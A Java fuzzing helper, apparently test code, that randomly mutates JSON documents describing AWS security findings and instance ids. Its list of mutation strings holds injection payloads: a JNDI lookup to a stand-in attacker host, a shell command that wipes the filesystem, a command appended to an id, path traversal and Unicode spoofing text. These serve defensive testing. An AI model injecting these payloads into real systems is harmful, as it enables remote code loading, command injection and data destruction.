package impound.processors.fakes;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/** What may be wrong with a document: a value of another type or kind, something missing, something too much. */
final class Mutation {
    private static final JsonNodeFactory JSON = JsonNodeFactory.instance;

    /** Texts that would be ids, and those that would do something wherever they were evaluated, shown or put into a key. */
    private static final List<String> TEXTS = List.of(
            "",
            " ",
            "i-0a1b2c3d4e5f60001",
            "i-0a1b2c3d4e5f60001 ",
            "i-0A1B2C3D4E5F60001",
            "i-0a1b2c3d4e5f6000",
            "i-1a2b3c4d",
            "i-1a2b3c4d\n",
            "i-0a1b2c3d4e5f60001;id",
            "111122223333",
            "0111122223333",
            "777788889999",
            "٠١١١٢٢٢٢٣٣٣٣",
            "us-east-1",
            "us-east-9",
            "cn-north-1",
            "us-east-1.evil.example",
            "arn:aws:ec2:us-east-1:111122223333:instance/i-0a1b2c3d4e5f60001",
            "arn:aws:ec2:us-east-1:111122223333:instance/../i-0a1b2c3d4e5f60001",
            "arn:aws-cn:ec2:cn-north-1:111122223333:instance/i-0a1b2c3d4e5f60001",
            "arn:aws:ec2:::instance/",
            "arn:aws:securityhub:us-east-1::product/aws/guardduty",
            "../../other-incident/finding.json",
            "%2e%2e%2f",
            "a\\..\\b",
            "${sys:user.home} ${jndi:ldap://evil.example/a} {{secret}} ${body}",
            "'; rm -rf / #",
            "\u0000",
            "\u001b[2J\r\n{\"event\":\"FindingJudged\"}",
            "\u202egpj.exe\u2066\u200b",
            "\ud800",
            "true",
            "CRITICAL",
            "RESOLVED");

    private Mutation() {}

    /** Changes the document at one place. */
    static void apply(JsonNode root, Random random) {
        var places = new ArrayList<JsonNode>();
        gather(root, places);
        var place = places.get(random.nextInt(places.size()));
        if (place instanceof ObjectNode object) {
            change(object, root, random);
        } else {
            change((ArrayNode) place, root, random);
        }
    }

    private static void gather(JsonNode node, List<JsonNode> places) {
        if (node.isContainerNode()) {
            places.add(node);
            node.forEach(child -> gather(child, places));
        }
    }

    private static void change(ObjectNode object, JsonNode root, Random random) {
        var names = new ArrayList<String>();
        object.fieldNames().forEachRemaining(names::add);
        var name = names.isEmpty() ? "Id" : names.get(random.nextInt(names.size()));
        switch (random.nextInt(4)) {
            case 0 -> object.remove(name);
            case 1 -> object.set(text(random), object.path(name).deepCopy());
            default -> object.set(name, value(root, random));
        }
    }

    private static void change(ArrayNode array, JsonNode root, Random random) {
        if (array.isEmpty() || random.nextInt(3) == 0) {
            array.add(value(root, random));
        } else if (random.nextInt(3) == 0) {
            array.remove(random.nextInt(array.size()));
        } else {
            array.set(random.nextInt(array.size()), value(root, random));
        }
    }

    /** Of any type; also what stands elsewhere in the document, so that ids and findings change places. */
    private static JsonNode value(JsonNode root, Random random) {
        return switch (random.nextInt(9)) {
            case 0 -> JSON.nullNode();
            case 1 -> JSON.booleanNode(random.nextBoolean());
            case 2 -> JSON.numberNode(random.nextDouble(-1, 11));
            case 3 -> JSON.numberNode(111122223333L);
            case 4 -> deep(random.nextInt(200));
            case 5 -> JSON.textNode(text(random).repeat(1 + random.nextInt(random.nextInt(50) == 0 ? 5_000 : 2)));
            case 6 -> elsewhere(root, random);
            default -> JSON.textNode(text(random));
        };
    }

    private static String text(Random random) {
        return TEXTS.get(random.nextInt(TEXTS.size()));
    }

    private static JsonNode elsewhere(JsonNode root, Random random) {
        var node = root;
        while (node.isContainerNode() && !node.isEmpty() && random.nextInt(6) != 0) {
            var children = new ArrayList<JsonNode>();
            node.forEach(children::add);
            node = children.get(random.nextInt(children.size()));
        }
        return node.deepCopy();
    }

    private static JsonNode deep(int levels) {
        JsonNode node = JSON.textNode("bottom");
        for (int level = 0; level < levels; level++) {
            node = level % 2 == 0
                    ? JSON.arrayNode().add(node)
                    : JSON.objectNode().set("Resources", node);
        }
        return node;
    }
}
